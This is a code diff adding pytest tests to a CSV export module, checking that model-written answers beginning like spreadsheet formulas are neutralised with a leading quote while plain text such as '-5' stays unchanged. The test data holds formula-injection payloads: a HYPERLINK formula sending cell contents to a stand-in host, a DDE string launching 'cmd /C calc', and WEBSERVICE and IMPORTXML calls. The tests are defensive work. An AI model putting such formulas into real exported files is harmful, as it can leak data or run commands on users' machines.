@@ -1,5 +1,6 @@
 """Lists and templates: what is read, what is filled in, what comes out, and what is said of mistakes."""
 
+import csv
 import json
 from collections.abc import Sequence
 from decimal import Decimal
@@ -162,6 +163,27 @@ def test_a_table_has_the_columns_of_the_list() -> None:
     assert table.line(row(items[0])) == '"1,2",N,,yes,done,\n'
     assert table.line(row(items[1], state="failed", error="why")) == ',,"{""c"":1}",yes,failed,why\n'
     assert Table(["x"]).head == "item,answer,state,error\n"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        '=HYPERLINK("http://x?"&A1)',
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1)",
+        "\t=A1&WEBSERVICE(A2)",
+        '-2+(3)+IMPORTXML("http://x")',
+    ],
+)
+def test_a_formula_that_a_model_wrote_is_a_text_to_a_spreadsheet_too(said: str) -> None:
+    table = Table(["x"])
+    for line in (table.line(row("x", answer=said)), table.line(row("x", answer="", error=said))):
+        assert f"'{said}" in next(csv.reader([line]))
+
+
+@pytest.mark.parametrize("said", ["-5", "-5°C", "- Thames (in London)", "=1+1", "f(x) = 2", "+44 20", "- a | b"])
+def test_what_begins_like_a_formula_and_calls_nothing_stays_what_it_is(said: str) -> None:
+    assert next(csv.reader([Table(["x"]).line(row("x", answer=said))]))[1] == said
 
 
 def test_rows_wait_for_those_before_them() -> None:
